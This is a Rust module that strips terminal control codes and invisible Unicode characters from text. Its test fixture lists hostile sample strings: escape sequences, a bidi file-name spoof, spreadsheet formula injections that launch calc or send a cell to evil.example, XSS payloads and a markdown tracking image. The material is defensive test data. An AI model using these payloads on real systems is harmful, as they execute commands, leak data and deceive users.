//! Characters that steer a terminal or show nothing: told here, for every
//! writer.

/// Whether a character shows nothing and changes what is seen around it:
/// bidirectional marks and overrides, zero-width characters, fillers,
/// selectors of variants, tags.
pub fn is_hidden(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{034F}'
            | '\u{061C}'
            | '\u{115F}'..='\u{1160}'
            | '\u{17B4}'..='\u{17B5}'
            | '\u{180B}'..='\u{180F}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{3164}'
            | '\u{FE00}'..='\u{FE0F}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF0}'..='\u{FFFB}'
            | '\u{1D173}'..='\u{1D17A}'
            | '\u{E0000}'..='\u{E0FFF}'
    )
}

/// Whether a character is hidden or is a control character, such as the one
/// that begins an escape sequence.
pub fn is_hostile(c: char) -> bool {
    c.is_control() || is_hidden(c)
}

/// Text of which every character can be seen, on one line; runs of white
/// space become one space. What was an escape sequence shows as its letters.
pub fn plain(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for word in text.split(|c: char| c.is_whitespace() || c.is_control()) {
        let start = out.len();
        out.extend(word.chars().filter(|c| !is_hidden(*c)));
        if out.len() > start && start > 0 {
            out.insert(start, ' ');
        }
    }
    out
}

/// Texts that attack whoever shows them, for the tests of all writers.
#[cfg(test)]
pub(crate) const ATTACKS: &[&str] = &[
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m one byte of C1",
    "over\rwritten",
    "back\u{8}\u{8}\u{8}space \u{7f}",
    "user\u{202E}gpj.exe",
    "\u{2066}isolated\u{2069}",
    "zero\u{200B}width\u{200D}\u{FEFF}\u{2060}",
    "tag \u{E0041}\u{E0042}",
    "filled\u{3164}\u{115F}\u{FFA0}",
    "line\u{2028}and\u{2029}paragraph\u{85}",
    "nul\0byte",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{FEFF}=1+1",
    "\u{200B}@SUM(A1)",
    "\u{FF1D}1+1",
    "=HYPERLINK(\"https://evil.example?\"&A1)",
    "a | b | c",
    "`code` ``more`` ```fence",
    "one\n\n# two\n| a |\n|---|",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![i](https://evil.example/i.png) [l](javascript:alert(1))",
    "&lt;b&gt; &#x3c;",
    "\\| \\` \\\\|",
    "- list\n1. list\n> quote\n---\n***",
    "$x$ $$y$$ ~~z~~ __w__",
    "quote \" and ' and , and ;\r\nnew row",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_text_shows_nothing_but_its_letters() {
        let cases = [
            ("plain words", "plain words"),
            ("  two\n lines\t here ", "two lines here"),
            ("red \u{1b}[31mtext\u{7}", "red [31mtext"),
            ("abc\u{202E}def\u{2066}", "abcdef"),
            ("\u{200B}\u{FEFF}", ""),
            ("naïve 日本", "naïve 日本"),
        ];
        for (text, expected) in cases {
            assert_eq!(plain(text), expected);
        }
        for attack in ATTACKS {
            assert!(!plain(attack).chars().any(is_hostile), "{attack:?}");
        }
    }
}
